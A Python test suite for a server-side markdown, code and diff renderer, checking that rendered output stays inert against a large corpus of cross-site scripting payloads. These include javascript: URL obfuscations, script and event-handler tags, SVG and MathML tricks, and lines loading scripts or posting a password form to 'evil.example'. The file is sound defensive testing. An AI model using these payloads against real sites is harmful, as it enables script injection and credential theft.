"""Text of models and tools as HTML for the page (F3): what comes out is safe, whatever goes in."""

import re
from html.parser import HTMLParser
from urllib.parse import urlsplit

from hypothesis import given
from hypothesis import strategies as st

from cases import for_each
from longboat.server.rendering import ATTRIBUTES, CLASSES, SCHEMES, TAGS, render
from longboat.wire.requests import RenderItem, RenderKind

URLS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java&#x0A;script:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)",
    "\x01javascript:alert(1)",
    "\u00a0javascript:alert(1)",
    "javascript://example.com/%0aalert(1)",
    "vbscript:msgbox(1)",
    "livescript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
    "blob:https://example.com/1",
    "file:///etc/passwd",
    "about:blank",
    "ws://example.com",
    "chrome://settings",
    "view-source:https://example.com",
    "//evil.example/x",
    "/v1/control",
    "/login?token=x",
    "?token=x",
    "#/w/s",
    "\\\\evil.example\\x",
    "http:evil",
    "jar:https://example.com!/x",
    "intent://x#Intent;end",
]

HTML = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script/src=data:,alert(1)>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)//",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<img src=`javascript:alert(1)`>",
    "<img srcset='//evil.example/x 1x'>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math href='javascript:alert(1)'>x</math>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='javascript:alert(1)'>",
    "<applet code=x></applet>",
    "<base href='//evil.example/'>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<link rel=import href='data:text/html,<script>alert(1)</script>'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta charset=utf-7>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(//evil.example/x)}</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<div onclick=alert(1)>x</div>",
    "<div onmouseover='alert(1)'>x</div>",
    "<a href=# onclick=alert(1)>x</a>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a id=location name=location href='https://example.com'>x</a>",
    "<form action='//evil.example'><input name=password><button>x</button></form>",
    "<form id=x></form><button form=x formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<select autofocus onfocus=alert(1)></select>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<body onload=alert(1)>",
    "<html manifest=//evil.example/x>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<table background=javascript:alert(1)><tr><td>x</td></tr></table>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<noembed><img src=x onerror=alert(1)></noembed>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<title><img src=x onerror=alert(1)></title>",
    "<!--><script>alert(1)</script>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<!DOCTYPE html [<!ENTITY x 'y'>]>",
    "</pre><script>alert(1)</script>",
    "</code></pre><img src=x onerror=alert(1)>",
    "</td></tr></table><script>alert(1)</script>",
    "</span><svg onload=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "<\x00script>alert(1)</script>",
    "<script\x0b>alert(1)</script>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<x-element onclick=alert(1)>x</x-element>",
    "<slot name=x onslotchange=alert(1)></slot>",
    "<dialog open>x</dialog>",
    "<span class='hl-k topbar toasts' id=prompt>x</span>",
    "<a href='https://example.com' target=_self rel=opener ping=//evil.example>x</a>",
]

MARKDOWN = [
    *(f"[x]({url})" for url in URLS),
    *(f"![x]({url})" for url in URLS),
    *(f"<{url}>" for url in URLS),
    *(f"[x]: {url}\n\n[x]" for url in URLS),
    *HTML,
    *(f"# {text}" for text in HTML[:10]),
    *(f"- {text}\n- {text}" for text in HTML[:10]),
    *(f"| a |\n|---|\n| {text} |" for text in HTML[:10]),
    *(f"```html\n{text}\n```" for text in HTML),
    *(f"`{text}`" for text in HTML),
    '```"><img src=x onerror=alert(1)>\ncode\n```',
    "```<script>\ncode\n```",
    '``` " onclick=alert(1) x="\ncode\n```',
    '[x](https://example.com "onclick=alert(1)")',
    "[x](https://example.com '\"><script>alert(1)</script>')",
    '[x](https://example.com/"onmouseover=alert(1)//)',
    '!["onerror=alert(1)](https://example.com/x.png)',
    "![](https://example.com/x.png)",
    "[<img src=x onerror=alert(1)>](https://example.com)",
    '<https://example.com/"onclick="alert(1)>',
    "[x](<javascript:alert(1)>)",
    "[x](https://example.com/%22%3E%3Cscript%3E)",
    "\\<script>alert(1)\\</script>",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    '| a |\n|:-:" onclick=alert(1)|\n| b |',
    "99999999999. x",
]


class Seen(HTMLParser):
    """Every tag and attribute that a browser would find."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.others: list[str] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        self.others.append(data)

    def handle_decl(self, decl: str) -> None:
        self.others.append(decl)

    def handle_pi(self, data: str) -> None:
        self.others.append(data)

    def unknown_decl(self, data: str) -> None:
        self.others.append(data)


def check(html: str) -> Seen:
    """Only what is allowed is left, and every link leads elsewhere and safely."""
    seen = Seen(html)
    assert seen.others == []
    for tag, attributes in seen.tags:
        assert tag in TAGS, html
        assert attributes.keys() <= ATTRIBUTES.get(tag, set()) | ({"rel"} if tag == "a" else set()), html
        for word in (attributes.get("class") or "").split():
            assert word in CLASSES or re.fullmatch(r"hl-[a-z0-9]+", word), html
        if tag == "a":
            check_link(attributes, html)
    return seen


def check_link(attributes: dict[str, str | None], html: str) -> None:
    assert attributes["target"] == "_blank", html
    assert set((attributes["rel"] or "").split()) == {"noopener", "noreferrer"}, html
    if (link := attributes.get("href")) is not None:
        assert urlsplit(link).scheme in SCHEMES, html
        assert link == link.strip(), html


def markdown(text: str) -> Seen:
    return check(render(RenderItem(kind=RenderKind.MARKDOWN, text=text)))


def test_the_corpus_is_large() -> None:
    assert len(set(URLS) | set(HTML)) >= 100
    assert len(set(MARKDOWN)) >= 300


@for_each("payload", MARKDOWN)
def test_no_markdown_becomes_active(payload: str) -> None:
    """F3: rendered safely on the server."""
    markdown(payload)


@for_each("payload", HTML)
def test_raw_html_is_shown_as_it_was_written(payload: str) -> None:
    shown = markdown(f"before\n\n```\n{payload}\n```").text
    assert re.sub(r"[\x00\ufffd]", "", payload) in re.sub(r"[\x00\ufffd]", "", shown)


@for_each("language", ["html", "javascript", "php", "markdown", "python", "diff", 'x"><script>', ""])
@for_each("payload", HTML[:20])
def test_no_code_becomes_active(payload: str, language: str) -> None:
    item = RenderItem(kind=RenderKind.CODE, text=payload, language=language)
    assert {tag for tag, _ in check(render(item)).tags} <= {"pre", "code", "span"}


@for_each("path", ["x.html", "x.js", "../../etc/x.py", "<script>.py", "x.unknown", ""])
@for_each("payload", HTML)
def test_no_diff_becomes_active(payload: str, path: str) -> None:
    text = f"--- a/{payload}\n+++ b/{payload}\n@@ -1,2 +1,2 @@ {payload}\n {payload}\n-{payload}\n+{payload}\n{payload}"
    seen = check(render(RenderItem(kind=RenderKind.DIFF, text=text, path=path)))
    assert {tag for tag, _ in seen.tags} <= {"table", "tbody", "tr", "td", "span"}


@given(st.text(alphabet=st.sampled_from("<>\"'&`[]()!:;/\\#*_-+|~=\n\t\x00 aejhrsvcipt1"), max_size=120))
def test_no_text_at_all_becomes_active(text: str) -> None:
    for kind in RenderKind:
        check(render(RenderItem(kind=kind, text=text, language="html")))


def test_markdown_reads_as_people_expect() -> None:
    seen = markdown(
        "# Title\n\n**bold** ~~gone~~ [x](https://e.com)\n\n3. three\n\n| a |\n|--:|\n| 1 |\n\n```py\nif x: pass\n```"
    )
    assert [tag for tag, _ in seen.tags if tag not in ("span", "p", "tr", "thead", "tbody")] == [
        *("h3", "strong", "s", "a", "ol", "li", "table", "th", "td", "pre", "code"),
    ]
    assert ("ol", {"start": "3"}) in seen.tags
    assert ("th", {"class": "right"}) in seen.tags
    assert ("span", {"class": "hl-k"}) in seen.tags


def test_a_picture_is_a_link_so_that_nothing_is_fetched() -> None:
    seen = markdown("![a cat](https://example.com/cat.png)")
    assert [tag for tag, _ in seen.tags] == ["p", "a"]
    assert seen.text.strip() == "a cat"


def test_a_diff_has_the_numbers_of_its_lines() -> None:
    text = "--- a/x.py\n+++ b/x.py\n@@ -7,2 +7,3 @@\n same\n-old\n+new\n+more\n"
    html = render(RenderItem(kind=RenderKind.DIFF, text=text))
    rows = re.findall(r'<tr class="(\w+)"><td class="number">(\d*)</td><td class="number">(\d*)</td>', html)
    assert rows == [("hunk", "", ""), ("same", "7", "7"), ("del", "8", ""), ("add", "", "8"), ("add", "", "9")]


def test_code_that_is_very_long_loses_its_colours_and_nothing_else() -> None:
    text = "x = 1\n" * 20_000
    seen = check(render(RenderItem(kind=RenderKind.CODE, text=text, language="python")))
    assert seen.text == text
    assert [tag for tag, _ in seen.tags] == ["pre", "code"]
